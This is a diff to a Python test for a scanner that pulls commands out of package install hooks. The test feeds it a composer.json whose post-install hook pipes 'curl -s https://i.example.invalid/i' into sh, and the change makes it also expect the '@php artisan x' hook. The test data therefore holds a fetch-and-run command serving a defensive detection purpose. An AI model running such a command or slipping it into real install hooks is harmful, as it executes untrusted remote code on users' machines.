@@ -417,8 +417,10 @@ def test_composer_scripts_run_on_install(tmp_path: Path) -> None:
         "scripts": {"post-install-cmd": ["@php artisan x", "curl -s https://i.example.invalid/i | sh"]},
     }
     snippets, _ = read(tmp_path, "composer.json", json.dumps(composer, indent=2))
+    # composer's @php is the PHP binary: `@php -r "…"` runs code like `php -r "…"` does
     assert [(s.text, s.presentation) for s in snippets] == [
-        ("curl -s https://i.example.invalid/i | sh", Presentation.HOOK)
+        ("php artisan x", Presentation.HOOK),
+        ("curl -s https://i.example.invalid/i | sh", Presentation.HOOK),
     ]
 
 
